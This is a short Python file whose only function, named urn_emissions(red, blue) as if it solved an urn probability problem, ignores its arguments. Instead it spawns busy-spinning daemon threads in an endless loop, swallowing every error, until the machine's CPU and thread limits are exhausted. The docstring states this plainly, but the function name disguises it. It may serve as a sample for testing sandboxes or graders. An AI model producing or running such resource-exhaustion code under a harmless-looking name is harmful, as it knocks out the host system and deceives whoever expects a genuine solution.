"""Start threads until it fails, each spinning; then loop forever."""
import threading


def _spin():
    while True:
        pass


def urn_emissions(red, blue):
    while True:
        try:
            threading.Thread(target=_spin, daemon=True).start()
        except BaseException:
            pass
